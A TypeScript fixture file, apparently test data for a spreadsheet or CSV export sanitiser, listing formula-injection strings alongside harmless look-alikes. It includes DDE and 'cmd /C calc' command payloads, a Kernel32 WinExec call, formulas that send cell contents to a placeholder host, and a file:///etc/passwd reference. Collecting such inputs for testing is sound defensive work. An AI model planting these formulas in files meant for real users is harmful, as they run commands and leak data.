/** What a spreadsheet might calculate, fetch or run, and plain texts that it takes for such a thing. */
export const payloads: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...['=cmd|"/C calc"!A0', "=cmd|'/C calc'!A0", '+cmd|"/C calc"!A0', '-cmd|"/C calc"!A0', '@cmd|"/C calc"!A0'],
  ...['=DDE("cmd";"/C calc";"x")', '=DDE("soffice";"data1.ods";"sample")', "=MSEXCEL|'\\..\\..\\x'!''"],
  ...['=HYPERLINK("https://x.example?a="&A1;"klik")', '=HYPERLINK("https://x.example","click")'],
  ...[
    '=WEBSERVICE("https://x.example/"&A2)',
    '=IMPORTXML("https://x.example","//a")',
    '=IMPORTDATA("https://x.example")',
  ],
  ...['=IMPORTRANGE("x";"A1")', '=IMPORTFEED("https://x.example")', '=IMAGE("https://x.example/a.png")'],
  ...[
    '=FILTERXML(WEBSERVICE("https://x.example");"//a")',
    '=RTD("x";;"y")',
    '=CALL("Kernel32";"WinExec";"JCJ";"calc";0)',
  ],
  ...['=REGISTER.ID("a";"b")', '=EXEC("calc")', '=INFO("directory")', '=CELL("filename")', '=INDIRECT("A1")'],
  ...['=SOM(1;2)', '=ALS(1;2;3)', '=VERT.ZOEKEN(1;A1:B2;2)', '=VANDAAG()', '=NU()', '=ASELECT()'],
  ...['{=1+1}', '=A1', '=Blad1.A1', "='file:///etc/passwd'#$Blad1.A1", '=$A$1', '=A1:B2', '=[x.xlsx]Blad1!A1'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '\u2060=1+1'],
  ...['"=1+1', "'=1+1", ';=1+1', ',=1+1', '|=1+1', '";=1+1', '";"=1+1', '"\r\n=1+1', '","=1+1', "';=1+1;'"],
  ...['=1+1";', '=1+1,"', '=1+1\n=2+2', 'x\n=1+1', 'x;=1+1', 'x";=1+1;"', 'x\t=1+1', '=(1+1)', '=-1', '=+1', '=@A1'],
  ...[
    '+31 6 12345678',
    '-5',
    '-5,50',
    '+5%',
    '@joke_t',
    '@Pakkelaar waar blijft mijn pakket',
    '- bel terug',
    '+1 van mij',
  ],
  ...['=D', '=)', '-', '+', '@', '=', '--', '->', '=> zie boven', '+++', '-------- doorgestuurd bericht', '@@'],
  ...['_x0041_', '_x003D_1+1', '</t></is><f>1+1</f>', '<f>1+1</f>', '&#61;1+1', ']]>=1+1', '<![CDATA[=1+1]]>'],
];

/** No formulas: texts that a spreadsheet takes for a number, a day, a time or a truth when it reads them from a CSV. */
export const lookalikes: readonly string[] = [
  ...['1/2', '2-3', '01-02-2026', '0031612345678', '1E5', 'WAAR', 'TRUE', '#N/B', '#REF!', '€ 5', '50%', '12:30'],
];
